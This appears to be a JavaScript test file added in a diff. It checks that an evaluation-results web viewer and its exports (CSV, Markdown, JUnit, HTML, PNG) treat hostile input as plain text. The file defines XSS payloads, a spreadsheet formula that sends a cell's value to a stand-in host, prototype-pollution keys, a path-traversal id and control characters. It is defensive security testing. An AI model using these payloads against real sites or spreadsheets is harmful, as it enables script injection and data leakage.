@@ -1,0 +1,518 @@
+// Texts that nobody has vetted: on every screen and in every file that leaves the page they are text, however they are
+// written, however long they are and however many.
+
+import assert from "node:assert/strict";
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { after, describe, test } from "node:test";
+import { pathToFileURL } from "node:url";
+import { evaluate, scored, showing, turn } from "./scored.mjs";
+import { playground, skip, violations } from "./support.mjs";
+
+const OWN = "globalThis.__owned=1";
+const ELSEWHERE = "http://elsewhere.invalid";
+
+/** Markup, scripts, addresses and what ends a context that text may stand in. */
+const MARKUP = [
+  `<img src=x onerror="${OWN}">`,
+  `<script>${OWN}</script>`,
+  `"><svg onload="${OWN}">`,
+  `'" autofocus onfocus="${OWN}" x="`,
+  `<a href="javascript:${OWN}">go</a>`,
+  `[go](javascript:${OWN}) ![see](${ELSEWHERE}/see.png)`,
+  `<iframe srcdoc="<script>parent.${OWN}</script>"></iframe>`,
+  `<link rel=stylesheet href=${ELSEWHERE}/a.css><style>@import "${ELSEWHERE}/b.css";</style>`,
+  `</style></title></textarea></script>--><!-- ]]> <![CDATA[ <?xml ?>`,
+  `{{constructor.constructor('${OWN}')()}} \${${OWN}}`,
+].join(" ");
+
+const UNSEEN =
+  "\u202Eesrever\u202C \u2066kept\u2069 \u200Bzero\uFEFF width \u0000\u0007\u001B[31mred\u001B[0m\u0085\u2028";
+const FORMULA = `=HYPERLINK("${ELSEWHERE}?x="&A1,"go")`;
+const EVERYTHING = `${FORMULA} ${MARKUP} ${UNSEEN}`;
+
+const PROTOTYPE_KEYS = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"];
+
+/** `{"a": {"a": … }}` as JSON text. */
+const nested = (depth) => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
+
+/** Arguments as JSON text, in which `__proto__` is a key like any other. */
+const ARGS = JSON.stringify({ city: MARKUP, [MARKUP]: UNSEEN, list: [FORMULA, { [UNSEEN]: null }] }).replace(
+  /\}$/,
+  `,"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"deep":${nested(100)}}`,
+);
+
+const rubric = (id, text) => ({ rubricId: id, rubricContent: { textProperty: text }, description: text, type: text });
+
+/** The conversations: each case id is itself an attack. */
+function hostileCases() {
+  const calls = [{ name: EVERYTHING, args: { ...JSON.parse(ARGS) } }];
+  const said = turn(EVERYTHING, `${EVERYTHING} agreed`, calls);
+  const done = turn(EVERYTHING, `${EVERYTHING} differed`, [{ name: MARKUP, args: { [MARKUP]: FORMULA } }, ...calls]);
+  const ids = [EVERYTHING, ...PROTOTYPE_KEYS, UNSEEN, "+1+1", "@SUM(A1)", "x".repeat(10_000), "../../etc/passwd"];
+  return Object.fromEntries(
+    ids.map((id) => [
+      id,
+      [
+        [said, said],
+        [done, done],
+      ],
+    ]),
+  );
+}
+
+const RUBRICS = "rubric_based_final_response_quality_v1";
+const SENTENCES = "hallucinations_v1";
+
+/** Judged by a judge that is itself hostile. */
+async function hostileResults() {
+  const conversations = Object.entries(hostileCases());
+  const side = (at) => ({
+    evalSetId: EVERYTHING,
+    // A list of pairs: `__proto__` as a case id has to stay one.
+    evalCases: conversations.map(([evalId, turns]) => ({ evalId, conversation: turns[at] })),
+  });
+  return evaluate({
+    evalSet: JSON.stringify(side(0)),
+    actual: JSON.stringify(side(1)),
+    criteria: {
+      tool_trajectory_avg_score: 1,
+      response_match_score: 0.5,
+      final_response_match_v2: { threshold: 0.5, judgeModelOptions: { numSamples: 2 } },
+      [RUBRICS]: { threshold: 0.5, rubrics: [rubric("constructor", EVERYTHING), rubric(MARKUP, MARKUP)] },
+      [SENTENCES]: 0.5,
+    },
+    judge: Object.assign(
+      ({ metricName, purpose }) => {
+        if (metricName === RUBRICS) {
+          const entry = (text) => `Property: ${text}\nEvidence: ${MARKUP}\nRationale: ${EVERYTHING}\nVerdict: no\n`;
+          return entry(MARKUP) + entry(EVERYTHING);
+        }
+        if (purpose === "segment") return `<sentence>${MARKUP}</sentence><sentence>${FORMULA}</sentence>`;
+        if (purpose === "validate") {
+          return `sentence: ${MARKUP}\nlabel: contradictory\nrationale: ${EVERYTHING}\nsupporting_excerpt: null\ncontradicting_excerpt: ${MARKUP}\n`;
+        }
+        return `{"reasoning": ${JSON.stringify(EVERYTHING)}, "is_the_agent_response_valid": "invalid"}`;
+      },
+      { model: MARKUP },
+    ),
+  });
+}
+
+/** Notes what a page must never do. */
+function watched(page) {
+  const did = [];
+  const origin = new URL(page.url()).origin;
+  page.on("dialog", (dialog) => {
+    did.push(`a dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on("popup", () => did.push("a window"));
+  page.on("request", (request) => {
+    const url = new URL(request.url());
+    if (url.protocol.startsWith("http") && url.origin !== origin) did.push(`a request to ${url.origin}`);
+  });
+  return did;
+}
+
+async function assertHarmless(page, did, where) {
+  assert.deepEqual(did, [], where);
+  const seen = await page.evaluate(() => ({
+    owned: globalThis.__owned,
+    polluted: {}.polluted,
+    foreign: [...document.querySelectorAll("main :is(img, iframe, script, link, style, object, embed, base)")].length,
+    links: [...document.querySelectorAll("a[href]")].filter(({ protocol }) => !/^(https?|blob):$/.test(protocol))
+      .length,
+    handlers: [...document.querySelectorAll("main *")].flatMap((element) =>
+      element.getAttributeNames().filter((name) => name.startsWith("on")),
+    ),
+    tooWide: document.documentElement.scrollWidth - innerWidth,
+  }));
+  assert.equal(seen.owned, undefined, `${where} ran a script`);
+  assert.equal(seen.polluted, undefined, `${where} changed every object`);
+  assert.deepEqual([seen.foreign, seen.links, seen.handlers], [0, 0, []], `${where} holds markup that was text`);
+  assert.ok(seen.tooWide <= 0, `${where} is ${seen.tooWide} px too wide`);
+  assert.ok((await page.title()).length < 300, `${where} has a title that is too long`);
+}
+
+/** What a click has the browser save, in order. */
+async function saved(page, click, count = 1) {
+  const downloads = [];
+  const note = (download) => downloads.push(download);
+  page.on("download", note);
+  await click();
+  while (downloads.length < count) await page.waitForTimeout(20);
+  page.off("download", note);
+  return Promise.all(
+    downloads.map(async (download) => ({
+      name: download.suggestedFilename(),
+      path: await download.path(),
+      content: readFileSync(await download.path()),
+    })),
+  );
+}
+
+const exported = (page, name) =>
+  saved(page, async () => {
+    if (!(await page.locator(".exports details").evaluate(({ open }) => open))) await page.getByText("Export").click();
+    await page.locator(".exports").getByRole("button", { name }).click();
+  });
+
+/** The fields of CSV text (RFC 4180). */
+function fields(csv) {
+  const found = [];
+  for (const { 1: quoted, 2: plain } of csv.matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)) {
+    found.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
+  }
+  return found;
+}
+
+const file = (name, text) => ({ name, mimeType: "application/json", buffer: Buffer.from(text) });
+
+const folder = mkdtempSync(join(tmpdir(), "hostile-"));
+after(() => rmSync(folder, { recursive: true }));
+
+/** A file on the disk: what is large takes a page long to get from a test. */
+function onDisk(name, content) {
+  const path = join(folder, name);
+  writeFileSync(path, content);
+  return path;
+}
+
+describe("hostile texts", { skip }, () => {
+  const site = playground();
+
+  test("are text on every screen that shows results", async () => {
+    const page = await showing(site, await hostileResults(), { width: 1280 });
+    const did = watched(page);
+    await page.getByRole("grid").waitFor();
+    await assertHarmless(page, did, "results");
+    assert.deepEqual(await violations(page), []);
+    await page.getByRole("slider").first().focus();
+    await page.keyboard.press("End");
+    await page.keyboard.press("Home");
+    await assertHarmless(page, did, "flips");
+    for (let row = 0; row < 11; row += 1) {
+      await page.goto(`${site.origin}/#/case/${row}`);
+      await page.locator(".turn").nth(1).waitFor();
+      for (const folded of await page.locator("details:not([open]) > summary").all()) {
+        if (await folded.isVisible()) await folded.click();
+      }
+      await page.waitForTimeout(50);
+      await assertHarmless(page, did, `case ${row}`);
+    }
+    assert.deepEqual(await violations(page), []);
+    await page.goto(`${site.origin}/#/run`);
+    await page.getByRole("heading", { name: "Run", exact: true }).waitFor();
+    await assertHarmless(page, did, "run");
+    await site.done(page);
+  });
+
+  test("are text in a comparison, and in its files", async () => {
+    const result = await hostileResults();
+    const page = await showing(site, result);
+    const did = watched(page);
+    const worse = structuredClone(JSON.parse(JSON.stringify(result)));
+    worse.evalSetResultName = EVERYTHING;
+    for (const one of worse.evalCaseResults) {
+      one.finalEvalStatus = 1;
+      for (const metric of one.overallEvalMetricResults) Object.assign(metric, { evalStatus: 1, score: 1 });
+    }
+    await page.getByRole("navigation", { name: "Steps" }).getByRole("link", { name: "Compare" }).click();
+    await page
+      .getByLabel("Open results to compare with")
+      .setInputFiles([file(`${MARKUP.replaceAll("/", "")}.json`, JSON.stringify(worse))]);
+    await page.getByRole("group", { name: "Export the comparison" }).waitFor();
+    await page.waitForTimeout(100);
+    await assertHarmless(page, did, "compare");
+    assert.deepEqual(await violations(page), []);
+    const [csv] = await saved(page, () => page.getByRole("button", { name: "CSV", exact: true }).click());
+    for (const field of fields(csv.content.toString())) {
+      assert.doesNotMatch(field, /^[=+@\t\r]|^-(?![\d.])/, "a field that a spreadsheet runs");
+    }
+    const [markdown] = await saved(page, () => page.getByRole("button", { name: "Markdown", exact: true }).click());
+    assert.doesNotMatch(markdown.content.toString(), /(?<!\\)<(?:script|img|svg|iframe|a )/);
+    const [json] = await saved(page, () => page.getByRole("button", { name: "JSON", exact: true }).click());
+    JSON.parse(json.content.toString());
+    await site.done(page);
+  });
+
+  test("are text in every file of results", async () => {
+    const page = await showing(site, await hostileResults());
+    const did = watched(page);
+    const name = /^[\p{L}\p{N}._-]{1,140}$/u;
+    const [json] = await exported(page, /^JSON/);
+    assert.match(json.name, name);
+    const outer = JSON.parse(json.content.toString());
+    assert.ok(typeof outer === "object" || typeof JSON.parse(outer) === "object");
+    const [csv] = await exported(page, /^CSV/);
+    assert.match(csv.name, name);
+    for (const field of fields(csv.content.toString())) {
+      assert.doesNotMatch(field, /^[=+@\t\r]|^-(?![\d.])/, "a field that a spreadsheet runs");
+    }
+    const [markdown] = await exported(page, /^Markdown/);
+    const outside = markdown.content.toString().replace(/(`+)[^`][\s\S]*?\1/g, "");
+    assert.doesNotMatch(outside, /(?<!\\)<(?:script|img|svg|iframe|a |link|style)/);
+    assert.doesNotMatch(outside, /(?<!\\)\]\((?:javascript|http)/);
+    const [junit] = await exported(page, /^JUnit/);
+    const errors = await page.evaluate((xml) => {
+      const parsed = new DOMParser().parseFromString(xml, "application/xml");
+      const elements = [...parsed.querySelectorAll("*")].map(({ localName }) => localName);
+      return { isBroken: parsed.querySelector("parsererror") !== null, elements: [...new Set(elements)] };
+    }, junit.content.toString());
+    assert.equal(errors.isBroken, false);
+    assert.deepEqual(
+      errors.elements.filter((element) => /^(img|script|svg|a|iframe|link|style)$/.test(element)),
+      [],
+    );
+    const [html] = await exported(page, /^HTML report/);
+    const report = await page.context().newPage();
+    const reportDid = [];
+    report.on("dialog", (dialog) => void dialog.dismiss().then(() => reportDid.push("a dialog")));
+    report.on("request", (request) => {
+      if (request.url().startsWith("http")) reportDid.push(request.url());
+    });
+    report.on("console", (message) => {
+      if (message.type() === "error") reportDid.push(message.text());
+    });
+    await report.goto(pathToFileURL(onDisk("report.html", html.content)).href);
+    for (const details of await report.locator("details").all()) {
+      await details.evaluate((element) => (element.open = true));
+    }
+    await report.waitForTimeout(200);
+    assert.equal(await report.evaluate(() => globalThis.__owned), undefined);
+    assert.equal(await report.locator("img, iframe, object, embed").count(), 0);
+    assert.deepEqual(reportDid, []);
+    const [image] = await exported(page, /^Image/);
+    assert.equal(image.content.subarray(1, 4).toString(), "PNG");
+    await assertHarmless(page, did, "exports");
+    await site.done(page);
+  });
+
+  test("are text among files, in the editor, and after a run in the page", async () => {
+    const page = await site.open();
+    const did = watched(page);
+    const cases = Object.entries(hostileCases());
+    const set = (at) =>
+      JSON.stringify({
+        eval_set_id: EVERYTHING,
+        eval_cases: cases.map(([evalId, turns]) => ({ eval_id: evalId, conversation: turns[at] })),
+      });
+    const bare = MARKUP.replaceAll("/", "").slice(0, 200);
+    await page
+      .getByLabel("Choose files")
+      .setInputFiles([
+        file(`\u202E${bare}.evalset.json`, set(0)),
+        file(`\u202E${bare}.actual.json`, set(1)),
+        file("__proto__", set(1)),
+        file("test_config.json", '{"criteria":{"tool_trajectory_avg_score":1,"response_match_score":0.5}}'),
+      ]);
+    await page.getByText("4 files were added.").waitFor();
+    await assertHarmless(page, did, "files");
+    await page
+      .getByRole("link", { name: bare.slice(0, 30) })
+      .first()
+      .click();
+    await page.getByRole("textbox", { name: /^The text of/ }).waitFor();
+    await assertHarmless(page, did, "editor");
+    await page.getByRole("link", { name: "← All files" }).click();
+    await page.getByRole("button", { name: "Take out __proto__" }).click();
+    await page.getByRole("button", { name: /^Score \d+ cases$/ }).click();
+    await page.waitForURL("**/#/results");
+    await page.getByRole("grid").waitFor();
+    await assertHarmless(page, did, "results");
+    for (let row = 0; row < 11; row += 1) {
+      await page.goto(`${site.origin}/#/edit/${row}`);
+      await page.locator("main h1").waitFor();
+      await page.locator("main textarea").first().waitFor();
+      await assertHarmless(page, did, `edit ${row}`);
+    }
+    await page.goto(`${site.origin}/#/run`);
+    await page.getByText(/^Scored/).waitFor();
+    await assertHarmless(page, did, "run");
+    await page.goto(`${site.origin}/#/criteria`);
+    await page.getByRole("heading", { name: "Criteria" }).waitFor();
+    await assertHarmless(page, did, "criteria");
+    await site.done(page);
+  });
+
+  test("in a config are text", async () => {
+    const page = await site.open();
+    const did = watched(page);
+    const criteria = {
+      [RUBRICS]: { threshold: 0.5, rubrics: [rubric(EVERYTHING, EVERYTHING), rubric("__proto__", MARKUP)] },
+      [EVERYTHING]: 1,
+      constructor: 0.5,
+      response_match_score: { threshold: MARKUP, [MARKUP]: 1 },
+    };
+    const config = JSON.stringify({ criteria }).replace('"constructor":', '"__proto__":1,"constructor":');
+    await page.getByLabel("Choose files").setInputFiles([file("test_config.json", config)]);
+    await page.getByText("test_config.json was added").waitFor();
+    for (const at of ["criteria", "criteria/json", "run", "files"]) {
+      await page.goto(`${site.origin}/#/${at}`);
+      await page.locator("main h1").waitFor();
+      await page.waitForTimeout(200);
+      for (const folded of await page.locator("main details:not([open]) > summary").all()) {
+        if (await folded.isVisible()) await folded.click();
+      }
+      await assertHarmless(page, did, at);
+    }
+    await site.done(page);
+  });
+
+  test("that name metrics after what every object has keep their thresholds", async () => {
+    const result = JSON.parse(
+      JSON.stringify(await scored({ a: [[turn("x", "y")], [turn("x", "y")]] }, { response_match_score: 0.5 })),
+    );
+    const [first] = result.evalCaseResults[0].overallEvalMetricResults;
+    for (const metricName of [...PROTOTYPE_KEYS, MARKUP]) {
+      result.evalCaseResults[0].overallEvalMetricResults.push({ ...first, metricName });
+    }
+    const page = await showing(site, result);
+    const did = watched(page);
+    for (const name of PROTOTYPE_KEYS) {
+      const slider = page.getByRole("slider", { name: `Threshold of ${name}`, exact: true });
+      assert.equal(await slider.getAttribute("aria-valuenow"), "0.5", name);
+      await slider.focus();
+      await page.keyboard.press("PageUp");
+      assert.equal(await slider.getAttribute("aria-valuenow"), "0.6", name);
+    }
+    await assertHarmless(page, did, "results");
+    const [image] = await exported(page, /^Image/);
+    assert.equal(image.content.subarray(1, 4).toString(), "PNG");
+    await site.done(page);
+  });
+
+  test("with halves of characters, or too deep to read, are refused or shown, and the page goes on", async () => {
+    const page = await site.open();
+    const did = watched(page);
+    const lone = JSON.stringify({
+      eval_set_id: "\uD800",
+      eval_cases: [{ eval_id: "half \uDC00", conversation: [turn("\uD800", "\uDC00 and \uD83D")] }],
+    });
+    const deep = (depth) =>
+      JSON.stringify({
+        eval_set_id: "deep",
+        eval_cases: [{ eval_id: "deep", conversation: [turn("x", "y", [{ name: "t", args: "HERE" }])] }],
+      }).replace('"HERE"', nested(depth));
+    await page
+      .getByLabel("Choose files")
+      .setInputFiles([
+        file("half.evalset.json", lone),
+        file("half.actual.json", lone),
+        file("deep.evalset.json", deep(100_000)),
+        file("less-deep.evalset.json", deep(110)),
+        file("less-deep.actual.json", deep(110)),
+      ]);
+    await page.getByText(/5 files were added/).waitFor();
+    await assertHarmless(page, did, "files");
+    for (const name of ["deep.evalset.json", "half.evalset.json"]) {
+      await page.getByRole("link", { name, exact: true }).first().click();
+      await page.getByRole("textbox", { name: /^The text of/ }).waitFor();
+      await assertHarmless(page, did, name);
+      await page.getByRole("link", { name: "← All files" }).click();
+    }
+    await page.getByRole("button", { name: "Take out deep.evalset.json", exact: true }).click();
+    const go = page.getByRole("button", { name: /^Score/ }).filter({ hasText: /cases?$/ });
+    if ((await go.getAttribute("aria-disabled")) !== "true") {
+      await go.click();
+      await page.getByRole("grid").or(page.getByRole("alert")).first().waitFor();
+    }
+    await assertHarmless(page, did, "after the run");
+    await site.done(page);
+  });
+});
+
+/** How long the page did not answer at most, in milliseconds, while something was done. */
+async function longestSilence(page, work) {
+  await page.evaluate(() => {
+    globalThis.silence = 0;
+    let last = performance.now();
+    globalThis.ticking = setInterval(() => {
+      const now = performance.now();
+      globalThis.silence = Math.max(globalThis.silence, now - last);
+      last = now;
+    }, 10);
+  });
+  await work();
+  return page.evaluate(() => {
+    clearInterval(globalThis.ticking);
+    return globalThis.silence;
+  });
+}
+
+describe("texts and lists without measure", { skip }, () => {
+  const site = playground();
+
+  test("leave the page answering: answers of four million characters", async () => {
+    const page = await site.open();
+    const words = "word ".repeat(800_000);
+    const unbroken = "x".repeat(4_000_000);
+    const set = (...answers) =>
+      JSON.stringify({
+        eval_set_id: "long",
+        eval_cases: answers.map((answer, at) => ({ eval_id: `c${at}`, conversation: [turn(answer, answer)] })),
+      });
+    const silence = await longestSilence(page, async () => {
+      await page
+        .getByLabel("Choose files")
+        .setInputFiles([
+          onDisk("long.evalset.json", set(words, unbroken)),
+          onDisk("long.actual.json", set(`${words} end`, `${unbroken} end`)),
+          onDisk("test_config.json", '{"criteria":{"response_match_score":0.5}}'),
+        ]);
+      await page.getByRole("button", { name: "Score 2 cases" }).click();
+      await page.waitForURL("**/#/results");
+      await page.getByRole("grid").waitFor();
+      for (const at of [0, 1]) {
+        await page.goto(`${site.origin}/#/case/${at}`);
+        await page.locator(".turn").first().waitFor();
+      }
+    });
+    assert.ok(silence < 1000, `the page did not answer for ${Math.round(silence)} ms`);
+    await page.getByRole("button", { name: /^Show/ }).first().click();
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
+    await site.done(page);
+  });
+
+  test("leave the page answering: five thousand rubrics", async () => {
+    const rubrics = Array.from({ length: 5000 }, (_, at) => rubric(`rubric_${at}`, `Property ${at} holds`));
+    const result = await scored(
+      { many: [[turn("Go", "Gone")], [turn("Go", "Gone")]] },
+      { [RUBRICS]: { threshold: 0.5, rubrics, judgeModelOptions: { numSamples: 1 } } },
+      {
+        judge: () =>
+          rubrics
+            .map(({ rubricContent }) => `Property: ${rubricContent.textProperty}\nRationale: Fine.\nVerdict: yes\n`)
+            .join("\n"),
+      },
+    );
+    const page = await site.open({ at: "#/compare" });
+    await page.goto(`${site.origin}/#/files`);
+    const config = JSON.stringify({ criteria: { [RUBRICS]: { threshold: 0.5, rubrics } } });
+    const silence = await longestSilence(page, async () => {
+      await page
+        .getByLabel("Choose files")
+        .setInputFiles([
+          onDisk("many.evalset_result.json", JSON.stringify(result)),
+          onDisk("test_config.json", config),
+        ]);
+      await page.getByText("2 files were added").waitFor();
+      await page.goto(`${site.origin}/#/criteria`);
+      await page.getByRole("checkbox", { name: RUBRICS, exact: true }).waitFor();
+      for (const folded of await page.locator("main details:not([open]) > summary").all()) {
+        if (await folded.isVisible()) await folded.click();
+      }
+    });
+    assert.ok(silence < 1000, `the page did not answer for ${Math.round(silence)} ms`);
+    await site.done(page);
+    const shown = await showing(site, result);
+    const silenceOfCase = await longestSilence(shown, async () => {
+      await shown.goto(`${site.origin}/#/case/0`);
+      await shown.locator(".turn").first().waitFor();
+    });
+    assert.ok(silenceOfCase < 1000, `the page did not answer for ${Math.round(silenceOfCase)} ms`);
+    await site.done(shown);
+  });
+});
